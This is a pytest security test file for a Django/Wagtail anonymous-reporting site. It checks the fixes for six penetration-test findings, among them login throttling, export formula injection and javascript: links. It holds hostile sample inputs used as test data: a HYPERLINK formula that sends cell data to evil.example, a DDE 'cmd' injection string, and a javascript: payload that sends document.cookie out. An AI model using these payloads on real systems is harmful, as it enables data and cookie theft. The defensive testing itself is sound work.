"""The second penetration test's findings, each attacked the way the tester attacked it.

Through HTTP with Django's test client, or through the Wagtail admin's own pages:

1. guessing advisers' passwords at the admin's log-in;
2. a formula in a name, run by a spreadsheet that opens the case list's export;
3. a ``javascript:`` URL carried into a rich-text link by ``{sla}``;
4. a year-long CSRF cookie left on a shared device by the report form;
5. 404 and 500 pages under reporter paths without the reporter headers;
6. DEBUG's 400 page echoing the client's address and browser.
"""

import csv
import io
import json
import pickle
import re

import pytest
from django.contrib.auth import get_user_model
from django.core.cache import caches
from django.core.checks import run_checks
from django.test import Client, RequestFactory
from django.urls import reverse
from django.utils.html import escape
from openpyxl import load_workbook
from wagtail.models import Page, Site

from anon_messaging import admin_login, security
from anon_messaging.error_reports import ReporterExceptionReporterFilter
from anon_messaging.models import Case, ReportingSettings
from anon_messaging.pages import SupportPage
from tests import factories
from tests.factories import PASSWORD
from tests.security_support import (
    ANONYMOUS_FORM,
    MESSAGING,
    SUPPORT,
    THROTTLE_CACHE,
    TOO_MANY,
    Clock,
    report_form_data,
    send_anonymous_report,
    use_throttle_cache,
)

ADMIN_LOGIN = "/admin/login/"
ATTACKER = "203.0.113.77"
BAD_PASSWORD = "Your username and password didn&#x27;t match."


@pytest.fixture
def site(reporter_site, site_admin, intake_adviser, settings):
    use_throttle_cache(settings)
    factories.make_user("editor", groups=["Editors"])
    return Site.objects.get(is_default_site=True)


def admin_client():
    client = Client()
    assert client.login(username="admin", password=PASSWORD)
    return client


def ids_of_checks(deploy=True):
    return {message.id for message in run_checks(include_deployment_checks=deploy)}


# --- 1. Guessing passwords at the admin's log-in ----------------------------------------------


def try_password(client, username, password, ip=ATTACKER):
    response = client.post(
        ADMIN_LOGIN, {"username": username, "password": password}, REMOTE_ADDR=ip
    )
    logged_in = "_auth_user_id" in client.session
    return response, logged_in


def test_admin_passwords_cannot_be_guessed_without_limit(site):
    attacker = Client()
    answers = []
    for attempt in range(30):
        response, logged_in = try_password(attacker, "admin", f"guess-{attempt}")
        assert response.status_code == 200 and not logged_in
        answers.append(TOO_MANY in response.content.decode())
    # Five wrong passwords are told so; every later attempt is refused before checking.
    assert answers == [False] * 5 + [True] * 25

    response, logged_in = try_password(attacker, "admin", PASSWORD)
    assert not logged_in
    assert response.status_code == 200
    html = response.content.decode()
    assert "Too many attempts. Please wait 15 minutes before trying again." in html
    # Another spelling of the name is the same account's count.
    response, logged_in = try_password(attacker, "ADMIN", PASSWORD)
    assert not logged_in and TOO_MANY in response.content.decode()


def test_another_account_from_the_same_address_still_gets_its_tries(site):
    attacker = Client()
    for attempt in range(30):
        try_password(attacker, "admin", f"guess-{attempt}")

    colleague = Client()
    for attempt in range(3):
        response, logged_in = try_password(colleague, "adviser", f"typo-{attempt}")
        html = response.content.decode()
        assert BAD_PASSWORD in html and TOO_MANY not in html and not logged_in
    response, logged_in = try_password(colleague, "adviser", PASSWORD)
    assert response.status_code == 302 and logged_in
    # The admin, from an address of their own, gets in: the attacker's five failures are
    # far below the count that holds an account up at every address.
    response, logged_in = try_password(Client(), "admin", PASSWORD, ip="198.51.100.5")
    assert response.status_code == 302 and logged_in


def test_one_address_cannot_spray_passwords_over_every_account(site):
    user_model = get_user_model()
    for index in range(8):
        user_model.objects.create_user(f"staff{index}", password="A-long-passphrase-42")
    attacker = Client()
    refused = []
    for index in range(8):
        for attempt in range(3):
            response, _logged_in = try_password(attacker, f"staff{index}", f"guess-{attempt}")
            refused.append(TOO_MANY in response.content.decode())
    # 20 wrong passwords from one address, then every account is refused from it.
    assert refused == [False] * 20 + [True] * 4
    response, logged_in = try_password(attacker, "staff7", "A-long-passphrase-42")
    assert not logged_in and TOO_MANY in response.content.decode()


def test_many_addresses_cannot_share_the_guessing_of_one_account(site, monkeypatch):
    clock = Clock()
    monkeypatch.setattr(admin_login, "_now", clock)
    refused = []
    for index in range(40):
        response, _logged_in = try_password(Client(), "admin", "guess", ip=f"10.0.0.{index}")
        refused.append(TOO_MANY in response.content.decode())
    assert refused == [False] * 30 + [True] * 10

    # The lock-out ends on its own, and a right password then logs in.
    clock.advance(15 * 60)
    response, logged_in = try_password(Client(), "admin", PASSWORD, ip="10.0.1.1")
    assert response.status_code == 302 and logged_in


def test_a_right_password_clears_its_own_count_and_the_lock_out_ends(site, monkeypatch):
    clock = Clock()
    monkeypatch.setattr(admin_login, "_now", clock)
    adviser = Client()
    for attempt in range(4):
        try_password(adviser, "adviser", f"typo-{attempt}")
    response, logged_in = try_password(adviser, "adviser", PASSWORD)
    assert logged_in
    # Four more typos are allowed again: the right password cleared the account's count here.
    adviser = Client()
    for attempt in range(4):
        response, _logged_in = try_password(adviser, "adviser", f"typo-{attempt}")
        assert BAD_PASSWORD in response.content.decode()

    attacker = Client()
    for attempt in range(5):
        try_password(attacker, "editor", f"guess-{attempt}")
    clock.advance(15 * 60 - 1)
    response, logged_in = try_password(attacker, "editor", PASSWORD)
    assert "Please wait 1 second before trying again." in response.content.decode()
    clock.advance(1)
    response, logged_in = try_password(attacker, "editor", PASSWORD)
    assert response.status_code == 302 and logged_in


def test_admin_login_counters_hold_neither_address_nor_username(site):
    cache = caches[THROTTLE_CACHE]
    for attempt in range(10):
        try_password(Client(), "admin", f"guess-{attempt}", ip=ATTACKER)
        try_password(Client(), "adviser", f"guess-{attempt}", ip="2001:db8:abcd:12::77")
    stored = dict(cache._cache)
    assert len(stored) >= 12  # three counters of two keys, for each account
    forbidden = [ATTACKER, "2001:db8:abcd:12:", "admin", "adviser", "guess"]
    for key, pickled in stored.items():
        text = f"{key} {pickle.loads(pickled)!r}"  # noqa: S301 - our own test cache
        for needle in forbidden:
            assert needle not in text.replace("admin-login", "")
            assert needle.encode() not in pickled


WAGTAIL_LOGIN = "/_util/login/"


def try_wagtail_login(client, username, password, ip=ATTACKER):
    """Wagtail's own log-in for private pages, which every site has through wagtail_urls."""
    client.post(
        WAGTAIL_LOGIN,
        {"username": username, "password": password, "next": "/admin/"},
        REMOTE_ADDR=ip,
    )
    return "_auth_user_id" in client.session


def test_wagtails_front_end_log_in_is_throttled_like_the_admins(site):
    attacker = Client()
    for attempt in range(35):
        assert not try_wagtail_login(attacker, "adviser", f"guess-{attempt}")
    # The right password is refused there, and at the admin's log-in, from that address.
    assert not try_wagtail_login(attacker, "adviser", PASSWORD)
    response, logged_in = try_password(Client(), "adviser", PASSWORD)
    assert not logged_in and TOO_MANY in response.content.decode()
    # The adviser, from an address of their own, still gets in.
    assert try_wagtail_login(Client(), "adviser", PASSWORD, ip="198.51.100.5")


def test_a_lock_out_at_the_admin_holds_at_every_other_log_in(site):
    attacker = Client()
    for attempt in range(7):
        try_password(attacker, "editor", f"guess-{attempt}")
    assert not try_wagtail_login(Client(), "editor", PASSWORD)
    # Elsewhere the editor's password works: the refusal was the lock-out's, not a typo's.
    assert try_wagtail_login(Client(), "editor", PASSWORD, ip="198.51.100.9")


def test_a_right_password_at_the_front_end_log_in_clears_its_count(site):
    adviser = Client()
    for attempt in range(4):
        assert not try_wagtail_login(adviser, "adviser", f"typo-{attempt}")
    assert try_wagtail_login(adviser, "adviser", PASSWORD)
    # Four more typos are allowed again, then the right password still works.
    adviser = Client()
    for attempt in range(4):
        assert not try_wagtail_login(adviser, "adviser", f"typo-{attempt}")
    assert try_wagtail_login(adviser, "adviser", PASSWORD)


@pytest.mark.django_db  # Django 6.1's checks open the connection
def test_a_site_whose_backends_do_not_start_with_the_throttle_is_flagged(settings):
    assert "anon_messaging.W511" not in ids_of_checks()
    settings.AUTHENTICATION_BACKENDS = ["django.contrib.auth.backends.ModelBackend"]
    assert "anon_messaging.W511" in ids_of_checks()
    settings.AUTHENTICATION_BACKENDS = [
        "django.contrib.auth.backends.ModelBackend",
        "anon_messaging.admin_login.PasswordThrottleBackend",
    ]
    assert "anon_messaging.W511" in ids_of_checks()
    assert "anon_messaging.W511" not in ids_of_checks(deploy=False)


@pytest.mark.django_db  # Django 6.1's checks open the connection
def test_an_unthrottled_admin_login_is_flagged(settings):
    assert "anon_messaging.W507" not in ids_of_checks()
    del settings.WAGTAILADMIN_USER_LOGIN_FORM
    assert "anon_messaging.W507" in ids_of_checks()
    settings.WAGTAILADMIN_USER_LOGIN_FORM = "wagtail.admin.forms.auth.LoginForm"
    assert "anon_messaging.W507" in ids_of_checks()
    settings.WAGTAILADMIN_USER_LOGIN_FORM = "tests.test_security_round2.OurLoginForm"
    assert "anon_messaging.W507" not in ids_of_checks()
    # Only --deploy says so.
    settings.WAGTAILADMIN_USER_LOGIN_FORM = "wagtail.admin.forms.auth.LoginForm"
    assert "anon_messaging.W507" not in ids_of_checks(deploy=False)


class OurLoginForm(admin_login.ThrottledLoginForm):
    failures_per_account_and_address = 3


def test_demo_settings_use_django_full_password_validators(settings):
    from django.contrib.auth.password_validation import validate_password
    from django.core.exceptions import ValidationError

    names = [validator["NAME"].rsplit(".", 1)[1] for validator in settings.AUTH_PASSWORD_VALIDATORS]
    assert names == [
        "UserAttributeSimilarityValidator",
        "MinimumLengthValidator",
        "CommonPasswordValidator",
        "NumericPasswordValidator",
    ]
    user = get_user_model()(username="jo.adviser", email="jo.adviser@example.org")
    for weak in ["jo.adviser1", "short", "password123", "8472619305"]:
        with pytest.raises(ValidationError):
            validate_password(weak, user)


# --- 2. A formula in the case list's export -------------------------------------------------

CASE_LIST = "/admin/anon_messaging/case/"
FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Click")'


def test_a_formula_in_an_advisers_name_is_exported_as_text(site):
    adviser_user = get_user_model().objects.get(username="adviser")
    # The adviser types the formula as their first name on the admin's own account page.
    adviser = Client()
    adviser.force_login(adviser_user)
    form = adviser.get(reverse("wagtailadmin_account")).context
    data = {
        "name_email-first_name": FORMULA,
        "name_email-last_name": "@SUM(1+1)*cmd|' /C calc'!A0",
        "name_email-email": "adviser@example.org",
    }
    for panel in form["panels_by_tab"].values():
        for item in panel:
            for field in item.get_form():
                value = field.value()
                # What the page already shows, as a browser sends it back (no file chosen).
                if field.html_name in data or value in (None, "") or hasattr(value, "url"):
                    continue
                data[field.html_name] = value
    response = adviser.post(reverse("wagtailadmin_account"), data)
    assert response.status_code == 302
    adviser_user.refresh_from_db()
    assert adviser_user.first_name == FORMULA
    case = Case.objects.get(pk=case_of_a_new_report().pk)
    Case.objects.filter(pk=case.pk).update(assigned_to=adviser_user)

    response = admin_client().get(CASE_LIST, {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = [cell for row in rows for cell in row]
    assigned = next(row for row in rows if row[0] == case.reference)[3]
    assert assigned.startswith("'=HYPERLINK(")
    assert FORMULA in assigned
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell

    # XLSX: Wagtail writes such a value as a text cell, never as a formula.
    response = admin_client().get(CASE_LIST, {"export": "xlsx"})
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert any(FORMULA in str(cell.value) for cell in values)
    assert all(cell.data_type != "f" for cell in values)


def case_of_a_new_report():
    send_anonymous_report(Client(), "A report for the export.")
    return Case.objects.latest("pk")


# --- 3. {sla} carrying a javascript: URL into a link ----------------------------------------

# The site's wording of the response time ({days} is the number), and what {sla} becomes.
JAVASCRIPT_WORDING = "javascript:fetch('//evil.example/?'+document.cookie)//{days}"
JAVASCRIPT_SLA = JAVASCRIPT_WORDING.replace("{days}", "3")


def link_to_sla(text):
    """Draftail's contentstate for a paragraph whose first word links to "{sla}"."""
    return json.dumps(
        {
            "blocks": [
                {
                    "key": "s1",
                    "text": text,
                    "type": "unstyled",
                    "depth": 0,
                    "inlineStyleRanges": [],
                    "entityRanges": [{"offset": 0, "length": 4, "key": 0}],
                    "data": {},
                }
            ],
            "entityMap": {"0": {"type": "LINK", "mutability": "MUTABLE", "data": {"url": "{sla}"}}},
        }
    )


def support_page_edit_data(page, **extra):
    return {
        "title": page.title,
        "slug": page.slug,
        "intro": link_to_sla("Read how long we take: {sla}."),
        "body-count": "0",
        "seo_title": "",
        "search_description": "",
        "go_live_at": "",
        "expire_at": "",
        "comments-TOTAL_FORMS": "0",
        "comments-INITIAL_FORMS": "0",
        "comments-MIN_NUM_FORMS": "0",
        "comments-MAX_NUM_FORMS": "1000",
        **extra,
    }


def assert_sla_is_plain_text(html):
    assert "javascript:" not in html.replace(escape(JAVASCRIPT_SLA), "")
    assert not re.search(r"""href=["']?\s*javascript""", html, re.IGNORECASE)
    # The placeholder in the link stays as it was written; the text shows the value.
    assert 'href="{sla}"' in html
    assert f"</a> how long we take: {escape(JAVASCRIPT_SLA)}.</p>" in html


def test_sla_cannot_put_a_javascript_url_into_a_link(site):
    reporting = ReportingSettings.for_site(site)
    reporting.response_time_wording = JAVASCRIPT_WORDING
    reporting.save()
    page = Page.objects.get(url_path__endswith="/anonymous-messaging/").specific
    admin = admin_client()
    edit = reverse("wagtailadmin_pages:edit", args=[page.pk])

    # The admin's preview, as the editor sees it while writing.
    preview = reverse("wagtailadmin_pages:preview_on_edit", args=[page.pk])
    response = admin.post(preview, support_page_edit_data(page))
    assert response.json()["is_valid"]
    response = admin.get(preview)
    assert response.status_code == 200
    assert_sla_is_plain_text(response.content.decode())

    # Published through the page editor, as a reporter then reads it.
    response = admin.post(edit, support_page_edit_data(page, **{"action-publish": "1"}))
    assert response.status_code == 302
    response = Client().get(SUPPORT)
    assert response.status_code == 200
    assert_sla_is_plain_text(response.content.decode())


# --- 4. A year-long CSRF cookie on a shared device ------------------------------------------


def test_the_report_forms_csrf_cookie_ends_with_the_browser_session(site):
    response = Client().get(ANONYMOUS_FORM)
    assert response.status_code == 200
    cookie = response.cookies["csrftoken"]
    assert cookie.value
    assert cookie["max-age"] == ""
    assert cookie["expires"] == ""
    assert "max-age" not in cookie.output().lower() and "expires" not in cookie.output().lower()


@pytest.mark.django_db  # Django 6.1's checks open the connection
def test_a_csrf_cookie_that_outlives_the_session_is_flagged(settings):
    assert "anon_messaging.W508" not in ids_of_checks()
    settings.CSRF_COOKIE_AGE = 60 * 60 * 24 * 365
    assert "anon_messaging.W508" in ids_of_checks()
    assert "anon_messaging.W508" not in ids_of_checks(deploy=False)
    settings.CSRF_USE_SESSIONS = True
    assert "anon_messaging.W508" not in ids_of_checks()


# --- 5. Error pages under reporter paths ----------------------------------------------------

NOT_FOUND_TEXT = "There is no page at this address."
SERVER_ERROR_TEXT = "Something went wrong"


def assert_reporter_headers(response):
    for name, value in security.REPORTER_HEADERS.items():
        assert response[name] == value, name
    assert response["Referrer-Policy"] == "no-referrer"
    assert "no-store" in response["Cache-Control"]


@pytest.mark.parametrize(
    "path", ["/report/no-such-form/", "/messaging/no-such-thing/", "/report/anonymous/x/y/"]
)
def test_unknown_reporter_paths_get_the_reporter_404_page(site, path):
    response = Client().get(path)
    assert response.status_code == 404
    assert_reporter_headers(response)
    html = response.content.decode()
    assert NOT_FOUND_TEXT in html
    assert "Exit this page" in html


def test_unknown_admin_paths_keep_the_admins_own_404_page(site):
    # Logged out, Wagtail sends any admin address to its log-in.
    response = Client().get("/admin/no-such-screen/")
    assert response.status_code == 302 and response["Location"].startswith(ADMIN_LOGIN)
    response = admin_client().get("/admin/no-such-screen/")
    assert response.status_code == 404
    assert NOT_FOUND_TEXT not in response.content.decode()
    assert response.get("Content-Security-Policy") != security.CONTENT_SECURITY_POLICY
    assert "wagtailadmin/404.html" in [template.name for template in response.templates]


def test_a_server_error_on_a_reporter_page_gets_the_reporter_500_page(site, monkeypatch):
    def broken_serve(self, request, *args, **kwargs):
        raise RuntimeError("broken")

    monkeypatch.setattr(SupportPage, "serve", broken_serve)
    response = Client(raise_request_exception=False).get(SUPPORT)
    assert response.status_code == 500
    assert_reporter_headers(response)
    assert SERVER_ERROR_TEXT in response.content.decode()

    # Even with a base template that fails in turn, a bare page with the same headers.
    monkeypatch.setattr(
        security.loader, "render_to_string", lambda *args, **kwargs: 1 / 0, raising=True
    )
    response = Client(raise_request_exception=False).get(SUPPORT)
    assert response.status_code == 500
    assert_reporter_headers(response)
    assert SERVER_ERROR_TEXT in response.content.decode()


# --- 6. DEBUG's error page echoing the client ----------------------------------------------

CLIENT_ADDRESS = "198.51.100.23"
USER_AGENT = "Mozilla/5.0 (Reporter's phone; PenTest-UA-7731)"


@pytest.mark.parametrize("path", [ANONYMOUS_FORM, MESSAGING])
@pytest.mark.parametrize("csrf_checked", [True, False])
def test_debugs_error_page_for_a_reporter_request_shows_no_address_or_browser(
    site, settings, path, csrf_checked
):
    settings.DEBUG = True
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 50_000
    # As a browser sends it, the CSRF middleware reads the body first and the request fails
    # before any page is reached; without the check, the page reads it.
    reporter = Client(enforce_csrf_checks=csrf_checked)
    data = report_form_data(reporter, ANONYMOUS_FORM, "x" * 60_000, code="ABCD-EFGH")
    data["csrfmiddlewaretoken"] = reporter.cookies["csrftoken"].value
    response = reporter.post(
        path,
        data,
        REMOTE_ADDR=CLIENT_ADDRESS,
        HTTP_USER_AGENT=USER_AGENT,
        HTTP_REFERER="https://search.example/?q=report+my+manager",
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert "RequestDataTooBig" in html  # DEBUG's own page, with the traceback
    for secret in (CLIENT_ADDRESS, "PenTest-UA-7731", "report+my+manager", "x" * 100):
        assert secret not in html
        assert escape(secret) not in html
    assert "REMOTE_ADDR" in html and "HTTP_USER_AGENT" in html  # named, values hidden


def test_debugs_error_pages_in_the_admin_still_show_the_request(site, settings):
    # DEBUG is for the developer: outside reporter pages the filter stays off under it.
    settings.DEBUG = True
    request = RequestFactory().get("/admin/", REMOTE_ADDR=CLIENT_ADDRESS)
    meta = ReporterExceptionReporterFilter().get_safe_request_meta(request)
    assert meta["REMOTE_ADDR"] == CLIENT_ADDRESS
